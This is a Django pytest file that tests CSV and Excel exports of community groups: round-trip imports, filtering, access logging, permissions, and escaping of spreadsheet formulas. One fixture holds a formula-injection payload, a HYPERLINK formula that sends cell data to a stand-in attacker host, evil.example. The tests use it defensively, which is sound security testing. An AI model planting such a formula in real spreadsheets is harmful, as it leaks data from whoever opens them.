"""Groups that staff take away as a file: filtered, logged, safe to open, and as they were when they come back."""

import io
from typing import Any

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from openpyxl import load_workbook

from groups.enums import GroupState, ImportPlan
from groups.models import CommunityGroup
from people.enums import Access
from people.models import AccessRecord, User
from tests import factories
from tests.groups import sheets
from tests.groups.people import group

pytestmark = pytest.mark.django_db
LISTED = "/admin/community-groups/"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Look")'


@pytest.fixture
def coordinator(client: Client) -> User:
    user = factories.member_of("Group coordinators")
    client.force_login(user)
    return user


def taken(client: Client, file: str, **filters: str) -> bytes:
    answer = client.get(LISTED, {"export": file, **filters})
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)  # type: ignore[attr-defined]


def some_groups() -> None:
    group(
        "Leeds",
        kind="town",
        postcode="LS1 4DY",
        about="We meet; on “Mondays”,\nat eight.",
        aims=["learn", "campaign"],
        ages="teenagers",
    )
    group("Otley", name=FORMULA, about="-1+1 is\tnought", takes_members=False)
    group("York", kind="church", name="Église d'York", state=GroupState.CLOSED)
    group("Ripon", name="Ripon", state=GroupState.SUBMITTED)


def state_of_groups() -> list[dict[str, Any]]:
    return [dict(row) for row in CommunityGroup.objects.order_by("pk").values()]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_is_taken_away_can_be_brought_in_and_changes_nothing(kind: str, client: Client, coordinator: User) -> None:
    some_groups()
    before = state_of_groups()
    content = taken(client, kind)
    batch = sheets.checked(content, coordinator)
    assert [(row.plan, row.errors) for row in sheets.rows(batch)] == [(ImportPlan.SAME, [])] * 4
    assert state_of_groups() == before


def test_a_file_has_the_groups_of_the_list_as_it_is_filtered(client: Client, coordinator: User) -> None:
    some_groups()
    _sheet, lines = sheets.read(taken(client, "csv", state="closed"))
    assert [line.cells[1] for line in lines] == ["Église d'York"]
    _sheet, lines = sheets.read(taken(client, "xlsx", kind="town"))
    assert [line.cells[0] for line in lines] == ["leeds"]


def test_nothing_in_a_file_is_run_by_a_spreadsheet(client: Client, coordinator: User) -> None:
    some_groups()
    text = taken(client, "csv").decode("utf-8-sig")
    assert "\"'=HYPERLINK" in text
    assert "\n=" not in text
    assert ",=" not in text
    cells = [cell for row in sheets.cells(taken(client, "xlsx")) for cell in row if isinstance(cell, str)]
    assert f"'{FORMULA}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_file_changed_by_hand_changes_only_what_was_changed(client: Client, coordinator: User) -> None:
    some_groups()
    content = taken(client, "csv").decode("utf-8-sig").replace("Église d'York", "Minster of York").encode()
    batch = sheets.made(content, coordinator)
    assert [row.plan for row in sheets.rows(batch)].count(ImportPlan.UPDATE) == 1
    assert CommunityGroup.objects.get(slug="york").name == "Minster of York"


def test_who_took_a_file_is_logged_and_stands_in_its_name(client: Client, coordinator: User) -> None:
    some_groups()
    answer = client.get(LISTED, {"export": "csv"})
    record = AccessRecord.objects.get(action=Access.EXPORTED)
    assert record.by == coordinator
    number = record.reason.split("file ")[-1]
    assert number in answer.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(taken(client, "xlsx")))
    assert coordinator.email in book.properties.description


def test_whoever_may_see_groups_needs_leave_of_its_own_to_take_them_away(client: Client) -> None:
    viewer = factories.user("viewer")
    viewer.user_permissions.add(*Permission.objects.filter(codename__in=("view_communitygroup", "access_admin")))
    client.force_login(viewer)
    assert client.get(LISTED).status_code == 200
    assert b"export=csv" not in client.get(LISTED).content
    for kind in ("csv", "xlsx"):
        assert client.get(LISTED, {"export": kind}).status_code in (302, 403)
    assert not AccessRecord.objects.exists()


def test_the_list_offers_both_kinds_of_file(client: Client, coordinator: User) -> None:
    shown = client.get(LISTED, {"state": "approved"}).content.decode()
    assert "state=approved&amp;export=csv" in shown
    assert "state=approved&amp;export=xlsx" in shown


def test_a_file_of_many_groups_is_written_row_by_row(
    client: Client, coordinator: User, django_assert_max_num_queries: Any
) -> None:
    CommunityGroup.objects.bulk_create(CommunityGroup(name=f"Group {n}", slug=f"group-{n}") for n in range(300))
    with django_assert_max_num_queries(20):
        _sheet, lines = sheets.read(taken(client, "csv"))
    assert len(lines) == 300
